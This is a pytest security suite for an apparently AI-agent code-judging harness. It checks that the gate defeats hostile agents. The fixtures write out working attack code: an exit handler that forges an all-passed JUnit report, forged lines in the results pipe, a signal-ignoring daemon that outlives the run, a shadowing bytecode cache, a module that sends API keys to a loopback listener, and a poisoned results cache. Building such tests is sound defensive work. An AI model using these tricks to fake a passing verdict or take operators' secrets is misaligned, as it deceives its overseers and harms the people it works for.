"""Issue 30: hostile agents whose weapon is the moment the gate runs their code.

The agent's module is imported by the gate's check commands and its test suite. Each agent
here plants something in that module (no judge file touched) and wants a counterfeit green,
a process that acts after the run, a verdict on code the commit does not have, or the
operator's secrets. Every one must end not green (or harmless), ``uh-core promote`` must
refuse it, and the operator's repository and branches must be as they were. An honest
project whose tests write to ``HOME`` and ``/tmp`` still passes and lands.

1. an exit handler rewrites the JUnit report to all passed and ends with status 0 (and,
   beyond the issue, the same with forged lines written into the results stream itself:
   only the diff scan can see that one — needs review, promote refuses);
2. a daemon (new session, TERM/INT/HUP ignored, re-forking, empty environment, cwd ``/``)
   that acts on the operator's repository during or after the run (``judge_agents/daemon.py``);
   unconfined it is stopped when its stage ends, but may act until then (tampered);
4. an ignored unchecked-hash ``__pycache__/*.pyc`` of a good module beside a wrong one;
5. the operator's API keys read by a check and by the tests, sent to a host listener.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import CliResult, git
from tests.harness.conftest import GOOD, MISSION, Project
from tests.security.conftest import FIND_OPERATOR, alive_with, picture

DAEMON = (Path(__file__).parent / "judge_agents" / "daemon.py").read_text()
BRANCH = "harness/calc"


# -- shared checks ----------------------------------------------------------------------------


def _ledger(root: Path) -> dict[str, Any]:
    (path,) = sorted((root / ".harness/runs").glob("*.json"))
    data: dict[str, Any] = json.loads(path.read_text())
    return data


def _stages(data: dict[str, Any]) -> list[dict[str, Any]]:
    stages: list[dict[str, Any]] = data["requirements"][0]["attempts"][-1]["stages"]
    return stages


def _failing(data: dict[str, Any]) -> dict[str, Any]:
    """The stage that failed ({} when none did)."""
    return next((s for s in _stages(data) if not s["passed"]), {})


def _run(project: Project, isolation: str, body: str) -> tuple[CliResult, dict[str, Any]]:
    agent = project.agent("attacker", body)
    result = project.run("--agent", agent, "--isolation", isolation)
    assert result.code in (0, 1), result.stdout + result.stderr
    return result, _ledger(project.root)


def _branch_tip(project: Project) -> str | None:
    found = subprocess.run(
        ["git", "rev-parse", "--verify", "-q", f"refs/heads/{BRANCH}"],
        cwd=project.root,
        capture_output=True,
        text=True,
        check=False,
    )
    return found.stdout.strip() or None


def _promote(project: Project, *extra: str) -> CliResult:
    return project.repo.uh("promote", "calc", "--branch", BRANCH, "--approved-by", "x", *extra)


def _promote_refuses(project: Project) -> None:
    """No branch to land, or promote refuses it."""
    if _branch_tip(project) is not None:
        done = _promote(project)
        assert done.code != 0, done.stdout + done.stderr


def _promote_refused(project: Project, before: dict[str, str]) -> None:
    """Promote refuses; the operator's repository as it was (its own branch aside)."""
    _promote_refuses(project)
    assert picture(project.root) == before


def _not_green(result: CliResult, data: dict[str, Any]) -> dict[str, Any]:
    record: dict[str, Any] = data["requirements"][0]
    assert result.code == 1, result.stdout + result.stderr
    assert record["outcome"] != "pass", record
    return record


# -- 1. evidence rewritten after the fact -----------------------------------------------------

# The criterion only imports the module: the tests stage is the only judge of behaviour.
IMPORTS_ONLY = MISSION.replace(
    'from src.calc import add; assert add(2, 3) == 5"', 'import src.calc"'
)
FORGED_JUNIT = (
    '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
    'failures="0" skipped="0" tests="2"><testcase classname="tests.test_calc" name="test_add"/>'
    '<testcase classname="tests.test_calc" name="test_truth"/></testsuite></testsuites>'
)
FORGER = f'''
write("src/calc.py", """import atexit
import os
import sys


def add(a, b):
    return a - b


def _forge():
    for i, arg in enumerate(sys.argv):
        path = arg.split("=", 1)[1] if arg.startswith("--junitxml=") else None
        if arg == "--junitxml":
            path = sys.argv[i + 1]
        if path:
            with open(path, "w") as handle:
                handle.write({FORGED_JUNIT!r})
    os._exit(0)


if "pytest" in sys.modules:
    atexit.register(_forge)
""")
'''


def test_an_exit_handler_rewriting_the_report_is_tampered(project: Project, isolation: str) -> None:
    project.repo.mission("calc", IMPORTS_ONLY)
    project.repo.commit("a mission whose criterion only imports")
    before = picture(project.root)
    result, data = _run(project, isolation, FORGER)
    record = _not_green(result, data)
    failing = _failing(data)
    assert failing["stage"] == "tests", failing
    codes = [f["code"] for f in failing["findings"]]
    assert "evidence_tampered" in codes, failing
    assert failing["detail"].startswith("evidence_tampered: "), failing["detail"]
    assert failing["evidence"]["exit_code"] == 0  # the forced status did reach uh
    assert failing["evidence"]["counts"]["failed"] == 0  # and the report was rewritten
    assert failing["evidence"]["stream"][-1]["failed"] == 1  # what the stream saw
    assert record["commit"] is None
    _promote_refused(project, before)


# The stream forged too: at import (during collection) the module writes the lines uh's
# plugin would have sent for an all-passed session into the results pipe (descriptor 3),
# then puts /dev/null over it, so the plugin's true lines go nowhere. Exit status, stream
# and report then agree. Nothing in the process under test can prove it did not lie
# (docs/security.md): what uh can do is read the diff — needs review, promote refuses.
STREAM_FORGER = FORGER.replace(
    """if "pytest" in sys.modules:
    atexit.register(_forge)""",
    """def _lie():
    import json
    import stat
    try:
        if not stat.S_ISFIFO(os.fstat(3).st_mode):
            return
    except OSError:
        return
    lines = []
    for name in ("test_add", "test_truth"):
        for when in ("setup", "call", "teardown"):
            test = {"e": "test", "id": "tests/test_calc.py::" + name, "when": when}
            lines.append(json.dumps({**test, "outcome": "passed"}))
    lines.append(json.dumps({"e": "finish", "status": 0}))
    os.write(3, ("\\\\n".join(lines) + "\\\\n").encode())
    os.dup2(os.open(os.devnull, os.O_WRONLY), 3)


if "pytest" in sys.modules:
    _lie()
    atexit.register(_forge)""",
)


@pytest.mark.parametrize("isolation", ["bwrap"], indirect=True)
def test_a_forged_stream_as_well_reads_needs_review_and_promote_refuses(
    project: Project, isolation: str
) -> None:
    assert STREAM_FORGER != FORGER
    project.repo.mission("calc", IMPORTS_ONLY)
    project.repo.commit("a mission whose criterion only imports")
    before = picture(project.root)
    result, data = _run(project, isolation, STREAM_FORGER)
    record = data["requirements"][0]
    tests = next(s for s in _stages(data) if s["stage"] == "tests")
    assert tests["evidence"]["stream"][-1]["failed"] == 0, tests  # the lie got through
    if record["outcome"] == "pass":  # a counterfeit green: it must at least read needs review
        assert any("os._exit" in line for line in record["review"]), record["review"]
        assert "NEEDS REVIEW: calc" in result.stdout
    _promote_refused(project, before)


# -- 2. a survivor that acts after the run ----------------------------------------------------


def _stop_all(marker: str) -> None:
    """Test cleanup: freeze and kill whatever still carries ``marker``."""
    deadline = time.monotonic() + 10
    while (pids := alive_with(marker)) and time.monotonic() < deadline:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            for pid in pids:
                with contextlib.suppress(OSError):
                    os.kill(pid, sig)
        time.sleep(0.05)


def _daemon_agent(marker: str, delay_s: float, trigger: list[str]) -> str:
    """An agent whose correct module starts ``judge_agents/daemon.py`` when imported."""
    return (
        FIND_OPERATOR
        + f"""
DAEMON = {DAEMON!r}
write("src/calc.py", f'''import subprocess
import sys


def add(a, b):
    return a + b


subprocess.Popen(
    [sys.executable, "-c", {{DAEMON!r}}, {marker!r}, {{str(OPERATOR)!r}}, "{delay_s}", *{trigger!r}],
    env={{{{"PATH": "/usr/local/bin:/usr/bin:/bin"}}}}, cwd="/", start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
''')
"""
    )


def _daemon_run(project: Project, isolation: str, *, after_the_run: bool) -> dict[str, Any]:
    """Run the daemon's agent; what is seen once the run ended and the daemon had time.
    ``after_the_run``: the daemon keeps quiet until the test says the run has ended."""
    marker = f"uh-judge-daemon-{isolation}-{time.time_ns()}"
    trigger = project.agents / "the-run-ended"
    agent = _daemon_agent(marker, 0.5, [str(trigger)] if after_the_run else [])
    try:
        result, data = _run(project, isolation, agent)
        tip = _branch_tip(project)
        trigger.write_text("")
        time.sleep(2.5)  # a daemon still alive would have acted by now
        failing = _failing(data)
        return {
            "alive": alive_with(marker),
            "acted": [p.read_text() for p in project.root.glob("acted-*")],
            "moved after the run": _branch_tip(project) != tip,
            "code": result.code,
            "status": data["status"],
            "outcome": data["requirements"][0]["outcome"],
            "tampered": data["tampered"],
            "failing": (failing.get("stage"), failing.get("detail")),
            "reason": data["requirements"][0].get("reason"),
        }
    finally:
        _stop_all(marker)


@pytest.mark.parametrize("isolation", ["bwrap"], indirect=True)
def test_a_daemon_started_by_the_gate_neither_survives_nor_acts(
    project: Project, isolation: str
) -> None:
    before = picture(project.root)
    seen = _daemon_run(project, isolation, after_the_run=False)
    assert seen["code"] == 1 and seen["outcome"] != "pass", seen
    _promote_refuses(project)
    assert seen["alive"] == [], seen
    assert seen["acted"] == [], seen  # neither during the run nor after it
    assert not seen["moved after the run"], seen
    assert picture(project.root) == before
    _named_at_verify(seen)


def _named_at_verify(seen: dict[str, Any], count: str = "1") -> None:
    """``count``: how many processes the stage names (a pattern: unconfined, each of the
    re-forking daemon's generations seen alive while it was being frozen is named)."""
    stage, detail = seen["failing"]
    assert stage == "verify", seen  # the first stage importing the module
    assert re.search(rf"left {count} process\(es\) running", detail), seen
    assert DAEMON.splitlines()[0][3:40] in detail, seen  # named by its argv


def test_a_daemon_started_by_the_gate_is_stopped_at_its_stage_unconfined(
    project: Project,
) -> None:
    """Unconfined nothing can stop code running as the operator from acting while it runs
    (docs/security.md); what is guaranteed: the daemon — empty environment, cwd ``/``,
    nothing of the room marking it — is stopped when its stage ends (one mission at a
    time: every new child of ours is the room's) and named there, the run is red, nothing
    acts after it, and whatever it did meanwhile makes the run tampered."""
    seen = _daemon_run(project, "none", after_the_run=False)
    assert seen["code"] == 1 and seen["outcome"] != "pass", seen
    _promote_refuses(project)
    assert seen["alive"] == [], seen
    assert not seen["moved after the run"], seen
    _named_at_verify(seen, r"\d+")
    if seen["acted"]:  # it wrote the operator's checkout before its stage ended
        assert seen["tampered"], seen


def test_a_daemon_waiting_for_the_end_of_the_run_is_stopped_and_red_unconfined(
    project: Project,
) -> None:
    """Unconfined, a daemon that keeps quiet until the run has ended never gets there:
    stopped and named when its stage ends, the attempt red, nothing touched."""
    before = picture(project.root)
    seen = _daemon_run(project, "none", after_the_run=True)
    assert seen["alive"] == [] and seen["acted"] == [], seen
    assert not seen["moved after the run"], seen
    assert seen["code"] == 1 and seen["outcome"] != "pass", seen
    _named_at_verify(seen, r"\d+")
    _promote_refused(project, before)


# -- 4. an ignored bytecode cache changes the verdict -----------------------------------------

PYC_AGENT = """
import importlib.util, py_compile
write("src/calc.py", GOOD)
cached = importlib.util.cache_from_source("src/calc.py")
py_compile.compile("src/calc.py", cfile=cached,
                   invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
write("src/calc.py", BAD)  # the commit holds the wrong module; the cache, the right one
seen = subprocess.run([sys.executable, "-c", "from src.calc import add; print(add(2, 3))"],
                      capture_output=True, text=True).stdout.strip()
print(f"in my sandbox add(2, 3) = {seen}")  # 5: the planted cache shadows the module
"""


def test_an_ignored_unchecked_pyc_does_not_change_the_verdict(project: Project) -> None:
    before = picture(project.root)
    result, data = _run(project, "none", PYC_AGENT)
    said = project.root / data["requirements"][0]["attempts"][-1]["agent"]["stdout_log"]
    assert "in my sandbox add(2, 3) = 5" in said.read_text()  # the attack is live there
    _not_green(result, data)
    failing = _failing(data)
    assert failing["stage"] == "verify", failing  # the committed module was judged
    _promote_refused(project, before)


# -- 5. the operator's secrets ----------------------------------------------------------------

SECRETS = {
    "OPENAI_API_KEY": "sk-uh-test-openai-5f0c1e",
    "ANTHROPIC_API_KEY": "sk-ant-uh-test-9a7b3d",
    "AWS_SECRET_ACCESS_KEY": "aws-uh-test-secret-4e2a8c",
}


class Listener:
    """A loopback server on the host that keeps what it is sent; stops by itself."""

    def __init__(self, life_s: float = 120.0) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._deadline = time.monotonic() + life_s
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        with self.sock:
            while not self._stop.is_set() and time.monotonic() < self._deadline:
                try:
                    conn, _addr = self.sock.accept()
                except TimeoutError:
                    continue
                with conn:
                    conn.settimeout(2.0)
                    chunks = []
                    with contextlib.suppress(OSError):
                        while chunk := conn.recv(65536):
                            chunks.append(chunk)
                    self.received.append(b"".join(chunks))

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(5)


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.stop()


def _exfiltrator(port: int) -> str:
    leak = f"""import json
import os
import socket
import sys

NAMES = {sorted(SECRETS)!r}


def add(a, b):
    return a + b


def _leak():
    found = {{name: os.environ.get(name) for name in NAMES}}
    found["argv"] = sys.argv[:3]
    print("env:", json.dumps(dict(os.environ)))  # into the gate's logs, if it has them
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
            conn.sendall(json.dumps(found).encode())
        print("leak: sent")
    except OSError as exc:
        print(f"leak: refused: {{exc}}")


_leak()
"""
    return f"write('src/calc.py', {leak!r})\n"


def _everything_under(*folders: Path) -> Iterator[tuple[Path, bytes]]:
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file() and not path.is_symlink():
                with contextlib.suppress(OSError):
                    yield path, path.read_bytes()


def test_the_checks_never_see_the_operators_keys(
    project: Project, isolation: str, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    before = picture(project.root)
    result, _data = _run(project, isolation, _exfiltrator(listener.port))
    time.sleep(0.3)  # a connection the tests stage opened last is read to its end
    listener.stop()
    received = b"\n".join(listener.received)
    for value in SECRETS.values():
        assert value.encode() not in received, received
        for path, content in _everything_under(project.root, Path(os.environ["UH_STATE_DIR"])):
            assert value.encode() not in content, f"{value} in {path}"
    if isolation == "bwrap":
        assert listener.received == [], received  # no route out of the judge's sandbox
    else:  # unconfined: a connection may arrive, with no key in it
        seen = [json.loads(r) for r in listener.received if r]
        assert seen, "the unconfined checks reached the listener (nothing blocks them)"
        assert all(s[name] is None for s in seen for name in SECRETS), seen
    # the work itself is right: a green, judged without the keys
    assert result.code == 0, result.stdout + result.stderr
    assert picture(project.root) == before


# -- 6. honest: tests that write to HOME and /tmp ---------------------------------------------

HONEST_TESTS = '''
write("src/calc.py", GOOD)
write("tests/test_files.py", """import os
import pathlib
import tempfile

from src.calc import add


def test_home_and_tmp(tmp_path):
    config = pathlib.Path.home() / ".calc" / "settings.ini"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("answer = %d\\\\n" % add(2, 3))
    assert config.read_text() == "answer = 5\\\\n"
    scratch = pathlib.Path("/tmp") / ("calc-honest-%d" % os.getpid())
    scratch.write_text("x")
    try:
        assert scratch.read_text() == "x"
    finally:
        scratch.unlink()
    with tempfile.NamedTemporaryFile(mode="w+") as handle:
        handle.write("y")
        handle.flush()
        assert pathlib.Path(handle.name).read_text() == "y"
    (tmp_path / "z").write_text("z")
    assert (tmp_path / "z").read_text() == "z"
""")
'''


def _accept_unconfined(project: Project) -> tuple[str, ...]:
    """Promote may ask an unconfined green to be accepted as such (issue 30, item 1)."""
    shown = project.repo.uh_raw("promote", "--help")
    return ("--accept-unconfined",) if "--accept-unconfined" in shown.stdout else ()


def test_an_honest_project_writing_home_and_tmp_passes_and_lands(
    project: Project, isolation: str
) -> None:
    result, data = _run(project, isolation, HONEST_TESTS)
    assert result.code == 0, result.stdout + result.stderr
    record = data["requirements"][0]
    assert record["outcome"] == "pass" and record["review"] == [], record
    tests = next(s for s in _stages(data) if s["stage"] == "tests")
    assert tests["evidence"]["counts"]["passed"] == 3, tests
    assert not (Path.home() / ".calc").exists()  # the tests' HOME was not the operator's
    extra = _accept_unconfined(project) if isolation == "none" else ()
    done = _promote(project, *extra)
    assert done.code == 0, done.stdout + done.stderr
    assert (project.root / "src/calc.py").read_text() == GOOD
    assert "test_home_and_tmp" in (project.root / "tests/test_files.py").read_text()
    assert git(project.root, "status", "--porcelain") == ""


# -- beyond the issue: the base commit's cached results, poisoned -----------------------------

# Deletes a test that passes at the base commit (non-regression would see it gone) and, first,
# writes the base commit's results cache to say nothing passed there (the cache is in the
# operator's state folder, which an unconfined agent can write).
CACHE_POISONER = (
    FIND_OPERATOR
    + """
import hashlib, json, re
write("src/calc.py", GOOD)
write("tests/test_calc.py", "from src.calc import add\\n\\n\\ndef test_add():\\n    assert add(2, 3) == 5\\n")
here = pathlib.Path.cwd().resolve()
state = next(p for p in here.parents if p.parent.name == "repos")
base = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
config = (OPERATOR / "harness.config.yaml").read_text()
command = re.search(r"^test_cmd: (.*)$", config, re.M).group(1).strip()
key = hashlib.sha256(command.encode()).hexdigest()[:16]
cache = state / "base-results" / f"{base}-{key}.json"
def poison():
    cache.parent.mkdir(parents=True, exist_ok=True)
    cache.write_text(json.dumps({"version": 1, "base_commit": base, "command": command,
                                 "cases": {}, "duration_ms": 1}))
attempt(poison)
"""
)


def test_a_poisoned_base_results_cache_does_not_land_unconfined(project: Project) -> None:
    """The unconfined run may believe the cache (it is marked UNCONFINED); promote's own
    re-judge runs the base commit again, sees the deleted test, and refuses."""
    before = picture(project.root)
    result, data = _run(project, "none", CACHE_POISONER)
    said = project.root / data["requirements"][0]["attempts"][-1]["agent"]["stdout_log"]
    assert "attack: done" in said.read_text()  # the cache was written
    assert result.code == 0, result.stdout  # the run's own gate believed the cache
    done = _promote(project, *_accept_unconfined(project))
    assert done.code != 0, done.stdout + done.stderr
    assert "judged again before landing, it is red" in done.stdout + done.stderr, done
    assert "test_truth" in done.stdout + done.stderr, done
    _promote_refused(project, before)
